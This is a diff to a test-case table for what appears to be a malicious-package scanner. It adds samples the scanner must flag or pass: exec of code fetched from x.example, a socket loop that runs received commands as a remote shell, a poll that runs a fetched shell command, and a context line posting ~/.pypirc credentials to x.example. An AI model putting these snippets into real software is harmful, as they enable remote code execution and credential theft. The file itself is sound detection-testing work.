@@ -207,8 +207,21 @@ CASES = [
     ({"demo/quotes.py": "import requests\ndef quotes(code):\n"
                         "    return eval(requests.get('https://x.example/q?c=' + code).text)\n"},
      "code.download-exec", L, "FP regression: an old client parsing a response with eval: low"),
+    ({"demo/plug.py": "import requests\ndef plugin():\n    exec(requests.get('https://x.example/p.py').text)\n"},
+     "code.download-exec", H, "exec of a program fetched from an address the package names: high"),
     ({"demo/plug.py": "import requests\ndef plugin(url):\n    exec(requests.get(url).text)\n"},
-     "code.download-exec", H, "exec of a fetched program when called: high"),
+     "code.download-exec", L, "exec of a program from an address the caller gives: a capability"),
+    ({"demo/c2.py": "import socket, subprocess\ndef serve():\n    s = socket.socket()\n"
+                    "    s.connect(('localhost', 4444))\n    cmd = s.recv(1024).decode()\n"
+                    "    subprocess.Popen(cmd, shell=True)\n"},
+     "code.process-spawn", H, "commands received on a socket are run: a remote shell"),
+    ({"demo/c2.py": "import requests, subprocess\ndef poll():\n"
+                    "    cmd = requests.get('https://x.example/task').text\n    subprocess.run(cmd, shell=True)\n"},
+     "code.process-spawn", H, "a whole command line fetched over HTTP is run"),
+    ({"demo/repo.py": "import requests, subprocess\ndef clone(api):\n"
+                      "    url = requests.get(api).json()['clone_url']\n"
+                      "    subprocess.run(f'git clone {url} .', shell=True)\n"},
+     "code.process-spawn", None, "FP regression: a fetched URL as an argument of git clone"),
     ({"demo-1.0/venv/lib/site-packages/pip/x.py": "import os, requests\ndef up():\n"
       "    requests.post('https://x.example', data=open(os.path.expanduser('~/.pypirc')).read())\n",
       "demo-1.0/setup.py": "from setuptools import setup\nsetup()\n"},
